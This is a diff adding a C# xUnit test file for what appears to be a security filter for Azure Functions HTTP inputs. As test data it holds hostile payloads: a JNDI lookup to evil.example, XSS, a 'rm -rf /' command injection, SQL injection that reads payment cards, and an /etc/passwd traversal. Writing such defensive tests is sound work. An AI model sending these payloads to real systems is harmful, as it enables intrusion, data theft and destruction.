@@ -1,0 +1,78 @@
+using ServerlessShield.AzureFunctions.Tests.FakeHost;
+using ServerlessShield.AzureFunctions.Tests.FakeHost.Rpc;
+using Status = ServerlessShield.AzureFunctions.Tests.FakeHost.Rpc.StatusResult.Types.Status;
+
+namespace ServerlessShield.AzureFunctions.Tests.Pipeline;
+
+/// <summary>HTTP inputs besides the body and query: selected headers, cookies and route values, through the real worker.</summary>
+public sealed class HttpInputsTests(HostBuilderWorkerFixture worker) : IClassFixture<HostBuilderWorkerFixture>
+{
+    [Theory]
+    [InlineData("User-Agent", "${jndi:ldap://evil.example/a}", "SHIELD1009", "headers.User-Agent")]
+    [InlineData("Referer", "https://shop.example/?q=<script>alert(1)</script>", "SHIELD1003", "headers.Referer")]
+    [InlineData("X-Forwarded-For", "10.0.0.1; rm -rf /", "SHIELD1004", "headers.X-Forwarded-For")]
+    [InlineData("X-Tenant-Note", "' OR '1'='1", "SHIELD1001", "headers.X-Tenant-Note")]
+    public async Task InspectedHeader_Malicious_Returns400AndNamesTheHeader(string header, string value, string rule, string fieldPath)
+    {
+        var response = await worker.InvokeHttpAsync("Echo", "hi", headers: new Dictionary<string, string> { [header] = value });
+
+        Assert.Equal(400, HttpResult.FromReturnValue(response).StatusCode);
+        var finding = Assert.Single(SecurityEventLog.Of(response.InvocationId), e => e.RuleId == rule);
+        Assert.Equal(fieldPath, finding.FieldPath, ignoreCase: true);
+    }
+
+    [Theory]
+    [InlineData("Authorization", "Bearer <script>alert(1)</script>")]
+    [InlineData("X-Functions-Key", "<script>alert(1)</script>")]
+    [InlineData("X-MS-Client-Principal-Name", "<script>alert(1)</script>")]
+    [InlineData("Accept", "<script>alert(1)</script>")]
+    public async Task CredentialPlatformAndOrdinaryHeaders_AreNotInspected(string header, string value)
+    {
+        var response = await worker.InvokeHttpAsync("Echo", "hi", headers: new Dictionary<string, string> { [header] = value });
+
+        Assert.Equal(200, HttpResult.FromReturnValue(response).StatusCode);
+        Assert.Empty(SecurityEventLog.Of(response.InvocationId));
+    }
+
+    [Fact]
+    public async Task CookieValue_Malicious_Returns400AndNamesTheCookie()
+    {
+        var response = await worker.InvokeHttpAsync("Echo", "hi", headers: new Dictionary<string, string> { ["Cookie"] = "session=abc123; pref=' OR '1'='1" });
+
+        Assert.Equal(400, HttpResult.FromReturnValue(response).StatusCode);
+        Assert.Equal("cookies.pref", Assert.Single(SecurityEventLog.Of(response.InvocationId)).FieldPath);
+    }
+
+    [Fact]
+    public async Task RouteValue_Allowed_ReachesTheFunction()
+    {
+        var response = await InvokeOrderAsync("42");
+
+        Assert.Equal(Status.Success, response.Result.Status);
+        Assert.Equal("order:42", HttpResult.FromReturnValue(response).Body);
+    }
+
+    [Fact]
+    public async Task RouteValue_Malicious_Returns400AndNamesTheRouteParameter()
+    {
+        var response = await InvokeOrderAsync("42' UNION SELECT card FROM payments --");
+
+        Assert.Equal(400, HttpResult.FromReturnValue(response).StatusCode);
+        Assert.Equal("route.id", Assert.Single(SecurityEventLog.Of(response.InvocationId)).FieldPath);
+    }
+
+    [Fact]
+    public async Task CatchAllRouteValue_Malicious_IsInspectedToo()
+    {
+        var response = await InvokeOrderAsync("42", rest: "../../etc/passwd");
+
+        Assert.Equal(400, HttpResult.FromReturnValue(response).StatusCode);
+        Assert.Equal("route.rest", Assert.Single(SecurityEventLog.Of(response.InvocationId)).FieldPath);
+    }
+
+    private Task<InvocationResponse> InvokeOrderAsync(string id, string rest = "details")
+    {
+        var route = new Dictionary<string, string> { ["id"] = id, ["rest"] = rest };
+        return worker.InvokeHttpAsync("GetOrder", string.Empty, method: "GET", routeValues: route, path: "orders/" + Uri.EscapeDataString(id) + "/" + rest);
+    }
+}
